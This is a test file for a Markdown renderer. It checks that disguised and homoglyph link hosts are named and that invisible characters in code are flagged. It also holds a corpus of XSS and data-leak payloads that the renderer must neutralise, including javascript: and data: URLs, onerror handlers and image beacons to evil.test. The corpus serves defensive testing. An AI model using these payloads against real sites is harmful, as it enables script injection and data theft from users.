import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, test } from 'vitest';
import { en } from '@/lib/i18n/en';
import { I18nProvider } from '@/lib/i18n/locale';
import { Markdown } from './Markdown';

function html(text: string): string {
  return renderToStaticMarkup(
    <I18nProvider first={{ locale: 'en', t: en }}>
      <Markdown text={text} />
    </I18nProvider>,
  );
}

describe('links', () => {
  test('lead out without telling where from, and name their host', () => {
    const made = html('[docs](https://helve.example/docs?a=1&b=2)');
    expect(made).toContain('href="https://helve.example/docs?a=1&amp;b=2"');
    expect(made).toContain('target="_blank" rel="noreferrer noopener"');
    expect(made).toContain('Opens helve.example');
  });

  test('with a disguised host show the real one', () => {
    expect(html('[x](https://bank.com@evil.test/)')).toContain('Opens evil.test');
    expect(html('[https://bank.com](https://evil.test/)')).toContain('Opens evil.test');
  });

  test.each([
    ['[your bank](https://bank.com@evil.test:8443/)', 'evil.test:8443'],
    ['[https://bank.com](https://evil.test/)', 'evil.test'],
    ['[bank.com](https://bank.com.evil.test/)', 'bank.com.evil.test'],
    // The first letter of each is Cyrillic.
    ['[apple.com](https://\u0430pple.com/)', 'xn--pple-43d.com'],
    ['<https://\u0430pple.com/>', 'xn--pple-43d.com'],
    ['<https://bank.com@evil.test/>', 'evil.test'],
    ['[write](mailto:eve@evil.test)', 'eve@evil.test'],
    ['[\u202ebank.com](https://evil.test/)', 'evil.test'],
  ])('%s names its destination beside the words', (text, host) => {
    expect(html(text)).toMatch(new RegExp(`<bdi class="[^"]*host[^"]*">${host.replaceAll('.', '\\.')}</bdi></a>`));
  });

  test('whose words are their address do not name it twice', () => {
    for (const text of [
      'https://helve.example/docs',
      '<https://helve.example/>',
      '[helve.example](https://helve.example)',
    ])
      expect(html(text)).not.toContain('host');
  });
});

test('emphasis has dots where it is Chinese, and is slanted beside it', () => {
  expect(html('请看 *italic* 和 *重点*。')).toMatch(/<em>italic<\/em> 和 <em class="[^"]*dotted[^"]*">重点<\/em>/);
});

describe('code', () => {
  test('names what turns directions or hides, and keeps what is ordinary', () => {
    const made = html('`a\u202eb`\n\n```js\nif (a\u2066) // \u200b\n\tx\n```\n\n`⚠\ufe0f`');
    expect(made).toContain('>U+202E</span>');
    expect(made).toContain('>U+2066</span>');
    expect(made).toContain('>U+200B</span>');
    expect(made).toContain('\tx');
    expect(made).toContain('⚠\ufe0f');
  });
});

/** What people have written to get a script, a load or a wrong link out of markdown. */
const CORPUS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<style>@import "https://evil.test/x.css";</style>',
  '<link rel=stylesheet href=https://evil.test/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.test">',
  '<base href="https://evil.test/">',
  '<form action=https://evil.test><button>x</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](java&#10;script:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x]( javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](javascript&colon;alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](blob:https://evil.test/1)',
  '[x](file:///etc/passwd)',
  '[x](//evil.test/x)',
  '[x](/api/session)',
  '[x](\\\\evil.test\\x)',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '![a](https://evil.test/leak?d=secret)',
  '![a][b]\n\n[b]: https://evil.test/leak?d=secret',
  '[![a](https://evil.test/leak)](https://evil.test/x)',
  '<img src="https://evil.test/leak">',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '```html"><img src=x onerror=alert(1)>\nx\n```',
  '`<img src=x onerror=alert(1)>`',
  '# <img src=x onerror=alert(1)>',
  '- <script>alert(1)</script>',
  '> <script>alert(1)</script>',
  '[a](https://x.test "onmouseover=alert(1) x=")',
  '[a](https://x.test/"onmouseover="alert(1))',
  '[a](https://x.test/?q=<script>alert(1)</script>)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)',
];

const ELEMENTS = new Set([
  'a',
  'bdi',
  'blockquote',
  'br',
  'button',
  'code',
  'del',
  'div',
  'em',
  'h1',
  'h2',
  'h3',
  'h4',
  'h5',
  'h6',
  'hr',
  'input',
  'li',
  'ol',
  'p',
  'path',
  'pre',
  'span',
  'strong',
  'svg',
  'table',
  'tbody',
  'td',
  'th',
  'thead',
  'tr',
  'ul',
]);

describe('what is written to do harm', () => {
  test.each(CORPUS)('%s', (text) => {
    const made = html(text);
    for (const [, name = ''] of made.matchAll(/<([a-z][\w-]*)/gi)) expect(ELEMENTS, `<${name}>`).toContain(name);
    const tags = [...made.matchAll(/<[a-z][^>]*>/gi)].join('\n');
    expect(tags).not.toMatch(/\s(?:src|srcset|srcdoc|style|background|poster|action|formaction|on\w+)=/i);
    for (const [, href = ''] of tags.matchAll(/href="([^"]*)"/g)) expect(href).toMatch(/^(?:https?|mailto):/);
  });
});
